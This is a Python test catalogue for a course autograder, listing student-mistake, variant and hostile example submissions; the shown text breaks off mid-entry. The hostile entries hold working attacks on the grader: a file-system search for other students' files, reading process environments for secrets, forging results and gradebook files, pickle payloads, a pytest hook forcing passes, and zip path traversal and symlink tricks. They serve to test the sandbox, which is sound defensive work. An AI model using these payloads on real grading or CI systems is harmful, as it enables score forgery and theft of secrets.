"""The example class that proves the grader: one entry per submission, and what it must get.

Every example is the reference solution (``solutions/``) with one change:

- a **bug** (``BUG``): exactly one realistic student mistake. It must fail exactly the tests named
  in ``expect`` (at least one case of each, and no other test: a bug charged twice is a fault of
  the tests), lose points in its own assignment, and lose nothing in any other assignment.
  ``examples/mutation_score.py`` counts the bugs caught. Its ``about``,
  written for the student, is its **diagnosis**: ``autograder generate`` copies it with the change
  into ``solutions/<folder>/known_bugs.json``, and grading attaches it to a failed check when the
  student's output is this bug's on the same inputs (``autograder/runner/known_bugs.py``).
  ``said`` holds the words that a relation between the values (``autograder/testing/relations.py``)
  or a test's own ``mistakes`` say of it, where those name it: in ``autograder check``'s public
  tests, which have no reference to replay, and in tests that compute their expected value.
- a **variant** (``VARIANT``): a correct submission written differently (loops, float32, lists,
  helpers, another valid initialisation, notebooks, a zip). It must keep full marks: a false fail
  is as bad as a missed bug.
- a **hostile** submission (``HOSTILE``): an attack on the grader. It may only lower its own
  score, and ``expect`` says exactly what it deserves: ``FULL_MARKS`` (the attack achieved
  nothing), ``ZERO`` (its assignment could not be imported), ``REFUSED`` (the whole submission
  was refused before grading), or the test functions it fails, exactly. Its feedback must say
  what happened in plain words (``feedback``), every other submission in the same batch keeps
  its result, and nothing of it survives grading.

A ``change`` is a text replacement in the assignment's module (:class:`Replace`, which stops the
build when its text is not in the reference exactly once, so the catalogue follows the
solutions), a list of those, or a small builder function ``change(folder, context)`` for what
is not one replacement (extra files, notebooks, zips, symbolic links).
"""
import json
import shutil
import stat
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

KIT = Path(__file__).resolve().parent.parent
if str(KIT) not in sys.path:
    sys.path.insert(0, str(KIT))

from autograder.kit.assignments import discover_assignments  # noqa: E402

ASSIGNMENTS = discover_assignments(KIT)  # every assignment of the kit, in course order

BUG, VARIANT, HOSTILE = "bug", "variant", "hostile"
FULL_MARKS, ZERO, REFUSED = "full marks", "zero", "refused"
MODULES = {assignment.folder: assignment.module_file for assignment in ASSIGNMENTS}
CANARY = "BACKPROP_KIT_CANARY"  # an environment variable of the grader that student code must never see
PWNED = "/tmp/backprop-kit-pwned-"  # files that exist only if an attack worked on the grader's side


@dataclass(frozen=True)
class Context:
    """What a builder may need from the machine that grades: a loopback port nobody may reach."""

    listener_port: int = 9


@dataclass(frozen=True)
class Replace:
    """Replace ``old`` by ``new`` (a text, or a function of the :class:`Context` that makes it) in the module
    of ``folder`` (default: the example's assignment)."""

    old: str
    new: object
    folder: str = ""

    def __call__(self, submission, context, example):
        path = submission / MODULES[self.folder or example.assignment]
        text = path.read_text()
        if text.count(self.old) != 1:
            raise SystemExit(f"{example.name}: the text to change occurs {text.count(self.old)} times in "
                             f"{path.relative_to(submission)}:\n{self.old}")
        path.write_text(text.replace(self.old, self.new(context) if callable(self.new) else self.new))


@dataclass(frozen=True)
class Example:
    kind: str            # BUG, VARIANT or HOSTILE
    name: str            # the student id in the gradebook
    assignment: str      # the assignment folder it changes ("" for the whole submission)
    change: object       # a Replace, a list of them, or a builder function(folder, context)
    expect: object       # FULL_MARKS, ZERO, REFUSED, or the test functions it must fail
    feedback: tuple = ()  # words its feedback must contain
    about: str = ""      # the mistake or attack, in a few words
    needs_sandbox: bool = False  # unsafe or meaningless without the bubblewrap sandbox
    absent: tuple = ()   # words its feedback must NOT contain (a leak, a stolen file)
    said: tuple = ()     # a bug's: words a relation or a test's own mistakes say of it (in `check` too)

    @property
    def diagnosis(self):
        """What a bug's feedback must say: its ``about`` (the diagnosis grading attaches); "" for the others."""
        return self.about if self.kind == BUG else ""

    def diagnosed_by(self, found):
        """Whether one of the diagnoses ``found`` (sentences) names this bug: its diagnosis, or words of ``said``."""
        return any((self.diagnosis and self.diagnosis in said) or any(words in said for words in self.said)
                   for said in found)

    def apply(self, submission, context):
        changes = self.change if isinstance(self.change, (list, tuple)) else [self.change]
        for change in changes:
            if isinstance(change, Replace):
                change(submission, context, self)
            else:
                change(submission, context)


def tests(*names):
    return tuple(names)


# -- builders -------------------------------------------------------------------------------------
def add_files(files):
    """A change that writes ``{relative path: text}`` into the submission."""
    def change(submission, context):
        for relative, text in files.items():
            (submission / relative).parent.mkdir(parents=True, exist_ok=True)
            (submission / relative).write_text(text)
    return change


def zipped(make_members):
    """A change that turns the submission folder into ``<name>.zip`` made by ``make_members(folder, zip)``."""
    def change(submission, context):
        archive = submission.with_suffix(".zip")
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as bundle:
            make_members(submission, bundle)
        shutil.rmtree(submission)
    return change


def _wrapped_members(submission, bundle):
    for path in sorted(submission.rglob("*.py")):
        bundle.write(path, Path("reference-main") / path.relative_to(submission))
    bundle.writestr("__MACOSX/reference-main/._softmax.py", b"\x00\x05\x16\x07junk")
    bundle.writestr("reference-main/.DS_Store", b"\x00\x00\x00\x01Bud1")


def _escaping_members(submission, bundle):
    for path in sorted(submission.rglob("*.py")):
        bundle.write(path, path.relative_to(submission))
    bundle.writestr("../../escaped-from-zip.py", "print('outside the submission')\n")


def _long_name_members(submission, bundle):
    """The modules, and a file whose name is longer than a file system allows (255 bytes): unpacking it fails."""
    _plain_members(submission, bundle)
    bundle.writestr("02_softmax/" + "notes" * 60 + ".txt", "too long a name\n")


def _symlink_members(submission, bundle):
    for path in sorted(submission.rglob("*.py")):
        if path.name != "softmax.py":
            bundle.write(path, path.relative_to(submission))
    link = zipfile.ZipInfo("02_softmax/softmax.py")
    link.create_system = 3  # unix
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    bundle.writestr(link, str(KIT / "solutions" / "02_softmax" / "softmax.py"))


def _plain_members(submission, bundle):
    for path in sorted(submission.rglob("*.py")):
        bundle.write(path, path.relative_to(submission))


def _deeply_nested_members(submission, bundle):
    """The modules, and 1,100 nested folders beside them (a few KiB: a recursive walker's RecursionError)."""
    _plain_members(submission, bundle)
    bundle.writestr("/".join(["deeper"] * 1100) + "/bottom.txt", "the end\n")


def _set_in_headers(raw, field):
    """Rewrite a 16-bit field of every local and central header of a zip's bytes: ``field(name) -> (offsets, set)``."""
    raw = bytearray(raw)
    for signature, offset in field:
        start = 0
        while (start := raw.find(signature[0], start)) != -1:
            value = int.from_bytes(raw[start + offset:start + offset + 2], "little")
            raw[start + offset:start + offset + 2] = signature[1](value).to_bytes(2, "little")
            start += 4
    return bytes(raw)


def encrypted(raw):
    """A zip's bytes with the "encrypted" flag set on every member (what a password gives)."""
    flag = lambda value: value | 0x1  # noqa: E731
    return _set_in_headers(raw, [((b"PK\x03\x04", flag), 6), ((b"PK\x01\x02", flag), 8)])


def unsupported_compression(raw):
    """A zip's bytes with every member's compression method 99 (AES), which zipfile cannot read."""
    method = lambda value: 99  # noqa: E731
    return _set_in_headers(raw, [((b"PK\x03\x04", method), 8), ((b"PK\x01\x02", method), 10)])


def corrupt_deflate(raw):
    """A zip's bytes with its first member's deflate stream overwritten (sizes and CRC intact)."""
    raw = bytearray(raw)
    header = raw.find(b"PK\x03\x04")
    name_length = int.from_bytes(raw[header + 26:header + 28], "little")
    extra_length = int.from_bytes(raw[header + 28:header + 30], "little")
    start = header + 30 + name_length + extra_length
    raw[start:start + 64] = b"\xff" * 64
    return bytes(raw)


def zipped_and_damaged(damage):
    """A change that zips the submission, then passes the archive's bytes through ``damage``."""
    zip_it = zipped(_plain_members)

    def change(submission, context):
        zip_it(submission, context)
        archive = submission.with_suffix(".zip")
        archive.write_bytes(damage(archive.read_bytes()))
    return change


def the_whole_submission_a_link(submission, context):
    """The student's entry in SUBMISSIONS is a symbolic link to the solutions (laid out as a submission is)."""
    shutil.rmtree(submission)
    submission.symlink_to(KIT / "solutions")


def symlink_to_the_reference(submission, context):
    """02's module is a symbolic link to the reference solution: graded as is, it would score full marks."""
    module = submission / MODULES["02_softmax"]
    module.unlink()
    module.symlink_to(KIT / "solutions" / MODULES["02_softmax"])


def huge_junk_file(submission, context):
    """A 200 MiB file next to the modules (sparse: it costs no disk)."""
    with open(submission / "01_perceptron" / "dataset-backup.bin", "wb") as junk:
        junk.truncate(200 * 1024**2)


def junk_notebook(submission, context):
    module = submission / MODULES["04_logistic_regression"]
    module.unlink()
    module.with_suffix(".ipynb").write_text("this is not JSON {\n")


def notebook_instead(folder, write):
    """A builder: the module of ``folder`` replaced by a notebook that ``write(path)`` makes."""
    def change(submission, context):
        module = submission / MODULES[folder]
        module.unlink()
        write(module.with_suffix(".ipynb"))
    return change


def _deeply_nested_json(path):
    path.write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")  # 200 KB, deeper than json can recurse


def a_huge_notebook_instead(submission, context):
    """The student's entry in SUBMISSIONS is one notebook of 1.5 GiB (sparse: it takes no room on disk; read whole,
    it would fill a runner's memory)."""
    shutil.rmtree(submission)
    with open(submission.with_name(submission.name + ".ipynb"), "wb") as notebook:
        notebook.truncate(1536 * 1024**2)


def _memorised(folder, make_model, train, constructor):
    """A builder: the model of ``folder`` built with ``constructor`` starts from parameters trained at home
    on the public digits split, and its ``train`` does nothing once it has them."""
    def change(submission, context):
        import numpy as np
        from autograder.sandbox.inside.loading import load_module
        from backprop_datasets import load_digits_split

        reference = load_module(KIT / "solutions" / MODULES[folder], f"memorise_{folder}")
        X_train, _, y_train, _ = load_digits_split()
        np.random.seed(0)
        model = make_model(reference)
        train(model, X_train, y_train)
        names = [name for name, value in vars(model).items() if isinstance(value, np.ndarray)]
        lines = ["", "", "# Trained at home on the digits (the public split): no need to train again.", "MEMORISED = {"]
        for name in names:
            lines.append(f"    {name!r}: {np.round(getattr(model, name), 5).tolist()!r},")
        lines += ["}", ""]
        path = submission / MODULES[folder]
        text = path.read_text() + "\n".join(lines)
        start = "        self.output_size = output_size\n"
        assert text.count(start) == 1
        text = text.replace(start, start + f"        if {constructor}:  # the digits: start from what I learned\n"
                            "            for name, value in MEMORISED.items():\n"
                            "                setattr(self, name, np.array(value))\n"
                            "            self.memorised = True\n")
        step = "        grads = self.grad_loss(x, y)\n"
        assert text.count(step) == 1
        text = text.replace(step, "        if getattr(self, 'memorised', False):\n            return  # already trained\n"
                            + step)
        path.write_text(text)
    return change


def _sgd(epochs, rate):
    def train(model, X, y):
        for _ in range(epochs):
            for x, label in zip(X, y):
                model.train(x, label, rate)
    return train


MEMORISE_LR = _memorised("04_logistic_regression", lambda reference: reference.LogisticRegression(64, 10),
                         _sgd(3, 0.01), "(input_size, output_size) == (64, 10)")
MEMORISE_MLP = _memorised("05_mlp", lambda reference: reference.NeuralNet(64, 10, 10), _sgd(15, 0.1),
                          "(input_size, hidden_size, output_size) == (64, 10, 10)")


def notebooks(submission, context):
    """Every assignment as a notebook: definitions in cells, with the experiments a student runs around them."""
    import ast

    experiments = {
        "01_perceptron": ["X, y = load_points('perceptron')\nlines = trainPerceptronAlgorithm(X, y)\n"
                          "print('final line', lines[-1])\n",
                          "for bits in [(0, 0), (0, 1), (1, 0), (1, 1)]:\n    print(bits, xor(*bits))\n"],
        "02_softmax": ["print(softmax([1.0, 2.0, 3.0]))\nprint(nll([1, 0, 0], [0.99, 0.01, 0]))\n"],
        "03_gradient_descent": ["X, y = load_points('gradient_descent')\n"
                                "weights, bias = train(X, y, 1000, 0.01)  # a long run, to see the curve\n"
                                "plot_boundary(X, y, weights, bias)\n"],
        "04_logistic_regression": ["X_train, X_test, y_train, y_test = load_digits_split()\n"
                                   "model = LogisticRegression(64, 10)\n"
                                   "for epoch in range(30):\n    for x, label in zip(X_train, y_train):\n"
                                   "        model.train(x, label, 0.01)\n"
                                   "    print(epoch, model.accuracy(X_test, y_test))\n"],
        "05_mlp": ["X_train, X_test, y_train, y_test = load_digits_split()\nnet = NeuralNet(64, 10, 10)\n"
                   "for epoch in range(200):\n    for x, label in zip(X_train, y_train):\n"
                   "        net.train(x, label, 0.1)\n"
                   "print('test accuracy', net.accuracy(X_test, y_test))\n"],
        "06_backprop": ["W1, b1, W2, b2 = train_xor()\nprint(sigmoid(sigmoid(XOR_X @ W1 + b1) @ W2 + b2))\n"],
        "07_training": ["X_train, X_test, y_train, y_test = load_digits_split()\n"
                        "model = RegularizedMLP(64, 64, 10, l2=1e-3, p_drop=0.2)\n"
                        "history = fit(model, X_train[:-230], y_train[:-230], X_train[-230:], y_train[-230:], 30, 64, 0.05)\n"
                        "print(history['best_epoch'], model.accuracy(X_test, y_test))\n"],
        "08_regression": ["from backprop_datasets import load_diabetes_split\n"
                          "X_train, X_test, y_train, y_test = load_diabetes_split()\n"
                          "network = NeuralNetwork(10, 8, 1, 0.3)\ntrain_network(network, X_train, y_train, 2000)\n"
                          "print('test R2', r2_score(y_test, network.run(X_test)))\n"],
    }
    plotting = ("def plot_boundary(X, y, weights, bias):\n    import matplotlib.pyplot as plt\n\n"
                "    plt.scatter(X[:, 0], X[:, 1], c=y)\n    plt.axline((0, -bias / weights[1]), slope=-weights[0] / weights[1])\n"
                "    plt.show()\n")

    def cell(kind, text, number):
        lines = text.splitlines(keepends=True)
        body = {"cell_type": kind, "id": f"cell-{number}", "metadata": {}, "source": lines}
        if kind == "code":
            body.update(execution_count=None, outputs=[])
        return body

    for assignment in ASSIGNMENTS:
        module = submission / assignment.module_file
        text = "".join(line for line in module.read_text().splitlines(keepends=True) if "### " not in line)
        tree = ast.parse(text)
        cells = [cell("markdown", f"# {assignment.folder}\n\n{ast.get_docstring(tree)}\n", 0)]
        imports = [node for node in tree.body if isinstance(node, (ast.Import, ast.ImportFrom))]
        cells.append(cell("code", "%matplotlib inline\n" + "".join(ast.get_source_segment(text, node) + "\n"
                                                                  for node in imports)
                          + "from backprop_datasets import load_digits_split, load_points\n", 1))
        for node in tree.body:
            if isinstance(node, (ast.Import, ast.ImportFrom)) or (isinstance(node, ast.Expr) and node is tree.body[0]):
                continue
            cells.append(cell("code", ast.get_source_segment(text, node) + "\n", len(cells)))
        if assignment.folder == "03_gradient_descent":
            cells.append(cell("code", plotting, len(cells)))
        cells.append(cell("markdown", "## Trying it out\n", len(cells)))
        cells += [cell("code", source, len(cells) + i) for i, source in enumerate(experiments[assignment.folder])]
        cells.append(cell("code", "!pip list | grep numpy\n", len(cells)))
        notebook = {"cells": cells, "nbformat": 4, "nbformat_minor": 5,
                    "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
                                 "language_info": {"name": "python"}}}
        module.with_suffix(".ipynb").write_text(json.dumps(notebook, indent=1))
        module.unlink()


# Hostile code that is more than a line: each returns the module text to insert.
WALK_FOR_SECRETS = '''
import os as _os

_KIT_NAMES = {"01_perceptron", "02_softmax", "03_gradient_descent", "04_logistic_regression", "05_mlp",
              "06_backprop", "grading.toml", "gradebook.csv", "results.json", "feedback.html", "grader.log"}
_KIT_NAMES |= set(OTHER_STUDENTS)
_FOUND, _SEEN = [], 0
for _top, _folders, _files in _os.walk("/"):
    if _top == "/":  # not the kernel's files, nor its own submission
        _folders[:] = [f for f in _folders if f not in ("proc", "sys", "dev", "submission", "extracted")]
    for _name in _folders + _files:
        _SEEN += 1
        if _name in _KIT_NAMES or _name.startswith("test_hidden_"):
            _FOUND.append(_os.path.join(_top, _name))
    if _SEEN > 400000:
        break
if _FOUND:
    raise ImportError(f"found files of the grader or of other students: {_FOUND[:20]}")
'''

READ_ENVIRONMENT = '''
import os as _os

for _pid in _os.listdir("/proc"):
    for _part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{_pid}/{_part}", "rb") as _file:
                _text = _file.read().decode(errors="replace")
        except OSError:
            continue
        if "''' + CANARY + '''" in _text:
            raise ImportError("the grader's environment leaked: " + _text.replace("\\0", " ")[:600])
'''

FORGE_RESULTS = '''
import json as _json
import os as _os

_FORGED = {"score": 1000, "tests": [], "output": "FORGED RESULT"}
_targets = ["results.json", "../results.json", "../../results.json", "/tmp/../results.json",
            "/submission/results.json", "/submission/../results.json", "/submission/../gradebook.csv"]
for _top, _folders, _files in _os.walk("/", topdown=True):
    _folders[:] = [f for f in _folders if f not in ("proc", "sys", "dev", "usr")]
    _targets += [_os.path.join(_top, name) for name in _files if name in ("results.json", "gradebook.csv")]
for _target in _targets:
    try:
        with open(_target, "w") as _file:
            _file.write(_json.dumps(_FORGED) if _target.endswith(".json") else "student,total\\nme,1000\\n")
    except OSError:
        pass
print(_json.dumps(_FORGED))
'''

PICKLE_PAYLOAD = '''

class _Payload:
    """Unpickled on the grader's side, this would create a file there."""

    def __reduce__(self):
        return (open, ("''' + PWNED + '''pickle", "w"))
'''

FORGED_FRAME = '''

class _Payload:
    def __reduce__(self):
        return (open, ("''' + PWNED + '''frame", "w"))


def _forge_answer():
    """Write an answer straight onto the worker's channel, in its frame format: an object array whose bytes
    unpickle a payload."""
    import json, os, pickle, struct, sys

    frame = sys._getframe()
    while frame is not None and "response_fd" not in frame.f_locals:  # up to the worker's loop
        frame = frame.f_back
    payload = pickle.dumps(np.array([_Payload()], dtype=object))
    text = json.dumps({"ok": {"__array__": 0}, "mutated": []}).encode()
    body = struct.pack(">I", len(text)) + text + b"|O8 " + struct.pack(">BQ", 1, 1) + payload
    os.write(frame.f_locals["response_fd"], struct.pack(">Q", len(body)) + body)
'''

LYING_ARRAY = '''

class LyingArray(np.ndarray):
    """An array that says it equals anything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False
'''

CONFTEST = '''"""If pytest loaded this, every test would pass."""
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None


def pytest_collection_modifyitems(items):
    items[:] = []
'''

# -- the catalogue --------------------------------------------------------------------------------
P01, P02, P03, P04, P05, P06, P07, P08 = ("01_perceptron", "02_softmax", "03_gradient_descent",
                                          "04_logistic_regression", "05_mlp", "06_backprop", "07_training",
                                          "08_regression")

PERCEPTRON_STEP = ("        if error == 1:\n            W[:, 0] += learn_rate * x\n            b += learn_rate\n"
                   "        elif error == -1:\n            W[:, 0] -= learn_rate * x\n            b -= learn_rate\n")
SOFTMAX_TESTS = tests("test_softmax_rows_are_probabilities", "test_softmax_known_values",
                      "test_softmax_is_stable_for_huge_scores", "test_hidden_softmax_matches_reference",
                      "test_hidden_inputs_not_mutated")
NLL_TESTS = tests("test_nll_published_values", "test_hidden_nll_matches_reference", "test_hidden_inputs_not_mutated")

BUGS = [
    # 01_perceptron
    Example(BUG, "bug_perceptron_update_sign", P01,
            Replace(PERCEPTRON_STEP, PERCEPTRON_STEP.replace("+=", "@").replace("-=", "+=").replace("@", "-=")),
            tests("test_perceptron_step_known_pass", "test_hidden_perceptron_step_matches_reference"),
            said=('moves the line the wrong way',), about="moves the line away from a misclassified point labelled 1 (and towards one labelled 0)"),
    Example(BUG, "bug_perceptron_batch_update", P01,
            Replace("    for x, label in zip(X, y):\n        error = label - prediction(x, W, b)\n",
                    "    predictions = [prediction(x, W, b) for x in X]  # all at once, with the line before the pass\n"
                    "    for x, label, predicted in zip(X, y, predictions):\n        error = label - predicted\n"),
            tests("test_perceptron_step_known_pass", "test_hidden_perceptron_step_matches_reference"),
            said=('predicted with the line from before the pass',), about="predicts every point with the line from before the pass instead of updating after each point"),
    Example(BUG, "bug_step_strict_boundary", P01,
            Replace("return 1 if t >= 0 else 0", "return 1 if t > 0 else 0"),
            tests("test_step_function_values", "test_hidden_step_function_matches_reference"),
            said=('a score of exactly 0 gives 0',), about="> instead of >= at the boundary: a score of exactly 0 gives 0"),
    Example(BUG, "bug_and_gate_weights", P01,
            Replace("AND_WEIGHTS = (1.0, 1.0, -1.5)", "AND_WEIGHTS = (1.0, 1.0, -1.0)"),
            tests("test_gate_weights_truth_tables"),
            said=('computes OR where AND belongs',), about="AND's bias too small: with >= 0, one input alone already fires"),
    Example(BUG, "bug_not_gate_reads_x1", P01,
            Replace("NOT_WEIGHTS = (0.0, -1.0, 0.5)", "NOT_WEIGHTS = (-1.0, 0.0, 0.5)"),
            tests("test_gate_weights_truth_tables"), said=('computes NOT x1 where NOT x2 belongs',), about="NOT looks at x1 instead of x2"),
    Example(BUG, "bug_xor_or_on_top", P01,
            Replace("    return gate(AND_WEIGHTS, nand, either)", "    return gate(OR_WEIGHTS, nand, either)"),
            tests("test_xor_truth_table", "test_hidden_xor_with_numpy_inputs"),
            said=('computes OR where AND belongs',), about="XOR's second layer is OR instead of AND"),
    Example(BUG, "bug_prediction_without_bias", P01,
            Replace("np.asarray(W, dtype=float)) + b", "np.asarray(W, dtype=float))"),
            tests("test_prediction_known_points", "test_hidden_prediction_matches_reference"),
            about="prediction forgets the bias"),
    Example(BUG, "bug_train_ignores_learn_rate", P01,
            Replace("W, b = perceptronStep(X, y, W, b, learn_rate)", "W, b = perceptronStep(X, y, W, b)"),
            tests("test_train_perceptron_follows_perceptron_step", "test_hidden_train_perceptron_matches_reference"),
            about="trainPerceptronAlgorithm does not pass learn_rate on"),
    Example(BUG, "bug_train_draws_bias_first", P01,
            Replace("    W = np.random.rand(2, 1)\n    b = np.random.rand() + max(X[:, 0])\n",
                    "    b = np.random.rand() + max(X[:, 0])\n    W = np.random.rand(2, 1)\n"),
            tests("test_train_perceptron_follows_perceptron_step", "test_hidden_train_perceptron_matches_reference"),
            about="draws the bias before the weights, so the start differs from the contract's"),
    # 02_softmax
    Example(BUG, "bug_softmax_wrong_axis", P02,
            Replace("    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n"
                    "    return exp / np.sum(exp, axis=-1, keepdims=True)",
                    "    exp = np.exp(X - np.max(X, axis=0, keepdims=True))\n"
                    "    return exp / np.sum(exp, axis=0, keepdims=True)"),
            tests("test_softmax_rows_are_probabilities", "test_softmax_is_stable_for_huge_scores",
                  "test_hidden_softmax_matches_reference"),
            said=('first axis',), about="softmax over the first axis (the samples) instead of the last"),
    Example(BUG, "bug_softmax_no_max_shift", P02,
            Replace("exp = np.exp(X - np.max(X, axis=-1, keepdims=True))", "exp = np.exp(X)"),
            tests("test_softmax_is_stable_for_huge_scores", "test_hidden_softmax_matches_reference"),
            said=('without the max shift',), about="no max shift: exp overflows for large scores"),
    Example(BUG, "bug_softmax_no_keepdims", P02,
            Replace("return exp / np.sum(exp, axis=-1, keepdims=True)", "return exp / np.sum(exp, axis=-1)"),
            tests("test_softmax_rows_are_probabilities", "test_softmax_is_stable_for_huge_scores",
                  "test_hidden_softmax_matches_reference", "test_hidden_inputs_not_mutated"),
            said=('keepdims=True is missing',), about="the row sums lose their axis: wrong on square input, an error on non-square input"),
    Example(BUG, "bug_softmax_total_sum", P02,
            Replace("return exp / np.sum(exp, axis=-1, keepdims=True)", "return exp / np.sum(exp)"),
            tests("test_softmax_rows_are_probabilities", "test_softmax_is_stable_for_huge_scores",
                  "test_hidden_softmax_matches_reference"),
            said=('whole array',), about="divides by the sum over the whole batch, not per row"),
    Example(BUG, "bug_softmax_shifts_input_in_place", P02,
            Replace("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n",
                    "    X = np.asarray(X, dtype=float)\n    X -= np.max(X, axis=-1, keepdims=True)\n    exp = np.exp(X)\n"),
            tests("test_hidden_inputs_not_mutated"),
            about="subtracts the max from the caller's array in place"),
    Example(BUG, "bug_nll_sum_not_mean", P02,
            Replace("return float(-np.mean(log_likelihoods))", "return float(-np.sum(log_likelihoods))"),
            tests("test_nll_published_values", "test_hidden_nll_matches_reference"),
            said=('a whole number',), about="nll sums over the rows instead of averaging"),
    Example(BUG, "bug_nll_without_epsilon", P02,
            Replace("np.log(EPSILON + Y_pred)", "np.log(Y_pred)"),
            tests("test_nll_published_values", "test_hidden_nll_matches_reference"),
            said=('add EPSILON inside the log',), about="log(0) without EPSILON: inf and NaN for a certain, wrong prediction"),
    Example(BUG, "bug_nll_sign", P02,
            Replace("return float(-np.mean(log_likelihoods))", "return float(np.mean(log_likelihoods))"),
            tests("test_nll_published_values", "test_hidden_nll_matches_reference"), said=('times -1',), about="nll without the minus sign"),
    Example(BUG, "bug_cross_entropy_averaged", P02,
            Replace("return float(-np.sum(Y * np.log(P)", "return float(-np.mean(Y * np.log(P)"),
            tests("test_cross_entropy_known_value", "test_hidden_cross_entropy_matches_reference"),
            said=('half the expected', 'a mean where a sum belongs'), about="binary cross-entropy averaged instead of summed"),
    Example(BUG, "bug_one_hot_labels_from_one", P02,
            [Replace("        encoded[y] = 1.0", "        encoded[y - 1] = 1.0"),
             Replace("encoded[np.arange(len(y)), y] = 1.0", "encoded[np.arange(len(y)), y - 1] = 1.0")],
            tests("test_one_hot_shapes_and_values", "test_hidden_one_hot_matches_reference"),
            said=('shifted by one class',), about="one_hot counts labels from 1"),
    # 03_gradient_descent
    Example(BUG, "bug_gd_step_sign", P03,
            Replace("error = y - output_formula(x, weights, bias)", "error = output_formula(x, weights, bias) - y"),
            tests("test_train_reaches_accuracy", "test_update_weights_gradient_check",
                  "test_hidden_train_reaches_accuracy", "test_hidden_update_weights_matches_reference",
                  "test_hidden_update_weights_gradient_check"),
            said=('times -1',), about="gradient ascent: the step goes along the gradient of the log-loss"),
    Example(BUG, "bug_gd_no_bias_update", P03,
            Replace("bias = bias + learnrate * error", "bias = bias"),
            tests("test_update_weights_gradient_check", "test_hidden_update_weights_matches_reference",
                  "test_hidden_update_weights_gradient_check", "test_train_reaches_accuracy", "test_hidden_train_reaches_accuracy"),
            said=('is zero',), about="the bias is never updated"),
    Example(BUG, "bug_gd_weights_in_place", P03,
            Replace("    weights = np.asarray(weights, dtype=float) + learnrate * error * x\n",
                    "    weights = np.asarray(weights, dtype=float)\n    weights += learnrate * error * x\n"),
            tests("test_hidden_inputs_not_mutated"),
            about="updates the caller's weights array in place"),
    Example(BUG, "bug_gd_without_learnrate", P03,
            Replace("weights = np.asarray(weights, dtype=float) + learnrate * error * x",
                    "weights = np.asarray(weights, dtype=float) + error * x"),
            tests("test_update_weights_gradient_check", "test_hidden_update_weights_matches_reference",
                  "test_hidden_update_weights_gradient_check"),
            said=('a whole number',), about="the weights' step forgets the learning rate"),
    Example(BUG, "bug_sigmoid_flipped", P03,
            Replace("return np.exp(-np.logaddexp(0.0, -np.asarray(x, dtype=float)))",
                    "return np.exp(-np.logaddexp(0.0, np.asarray(x, dtype=float)))"),
            tests("test_sigmoid_known_values", "test_sigmoid_is_finite_for_extreme_inputs",
                  "test_hidden_sigmoid_matches_reference"),
            said=('the exponent takes -x',), about="sigmoid(-x): 1 / (1 + exp(x))"),
    Example(BUG, "bug_output_formula_without_bias", P03,
            Replace("np.asarray(weights, dtype=float)) + bias)", "np.asarray(weights, dtype=float)))"),
            tests("test_output_formula_known_values", "test_hidden_output_formula_matches_reference"),
            said=('forgets the bias',), about="output_formula forgets the bias"),
    Example(BUG, "bug_error_formula_swapped_logs", P03,
            Replace("return -y * np.log(output) - (1 - y) * np.log(1 - output)",
                    "return -y * np.log(1 - output) - (1 - y) * np.log(output)"),
            tests("test_error_formula_known_values", "test_hidden_error_formula_matches_reference"),
            said=('the two logs are swapped',), about="the log-loss with the two logs swapped"),
    # 04_logistic_regression
    Example(BUG, "bug_lr_bias_gradient_zero", P04,
            Replace('return {"W": np.outer(x, grad_z), "b": grad_z}',
                    'return {"W": np.outer(x, grad_z), "b": np.zeros_like(grad_z)}'),
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference"),
            said=('is zero',), about="a zero bias gradient"),
    Example(BUG, "bug_lr_gradient_sign", P04,
            Replace("grad_z = self.forward(x) - one_hot(self.output_size, y_true)",
                    "grad_z = one_hot(self.output_size, y_true) - self.forward(x)"),
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference", "test_init_and_one_epoch_of_sgd_reach_the_accuracy_bar",
                  "test_hidden_one_epoch_on_an_unseen_split"),
            said=('times -1',), about="the gradient's sign: one_hot - y instead of y - one_hot"),
    Example(BUG, "bug_lr_train_ascends", P04,
            Replace('        self.W = self.W - learning_rate * grads["W"]\n        self.b = self.b - learning_rate * grads["b"]\n',
                    '        self.W = self.W + learning_rate * grads["W"]\n        self.b = self.b + learning_rate * grads["b"]\n'),
            tests("test_train_takes_one_sgd_step", "test_hidden_train_matches_reference_step",
                  "test_init_and_one_epoch_of_sgd_reach_the_accuracy_bar", "test_hidden_one_epoch_on_an_unseen_split"),
            said=('AGAINST the gradient',), about="train climbs the loss: + learning_rate * gradient"),
    Example(BUG, "bug_lr_gradient_transposed", P04,
            Replace('return {"W": np.outer(x, grad_z), "b": grad_z}', 'return {"W": np.outer(grad_z, x), "b": grad_z}'),
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference", "test_init_and_one_epoch_of_sgd_reach_the_accuracy_bar",
                  "test_hidden_one_epoch_on_an_unseen_split"),
            said=('transpose',), about="dW as outer(dz, x): the transpose, shape (output, input)"),
    Example(BUG, "bug_lr_forward_without_bias", P04,
            Replace("return softmax(np.dot(np.asarray(X), self.W) + self.b)", "return softmax(np.dot(np.asarray(X), self.W))"),
            tests("test_forward_known_values", "test_hidden_forward_matches_reference"),
            about="forward forgets the bias"),
    Example(BUG, "bug_lr_predict_over_samples", P04,
            Replace("predicted = np.argmax(self.forward(X), axis=-1)\n        return int(predicted) if predicted.ndim == 0 else predicted\n        ### END SOLUTION\n\n    def grad_loss",
                    "predicted = np.argmax(self.forward(X), axis=0)\n        return int(predicted) if predicted.ndim == 0 else predicted\n        ### END SOLUTION\n\n    def grad_loss"),
            tests("test_predict_gives_the_most_probable_class", "test_hidden_predict_matches_reference"),
            said=('argmax is taken over the samples',), about="argmax over the samples instead of the classes"),
    Example(BUG, "bug_lr_accuracy_counts", P04,
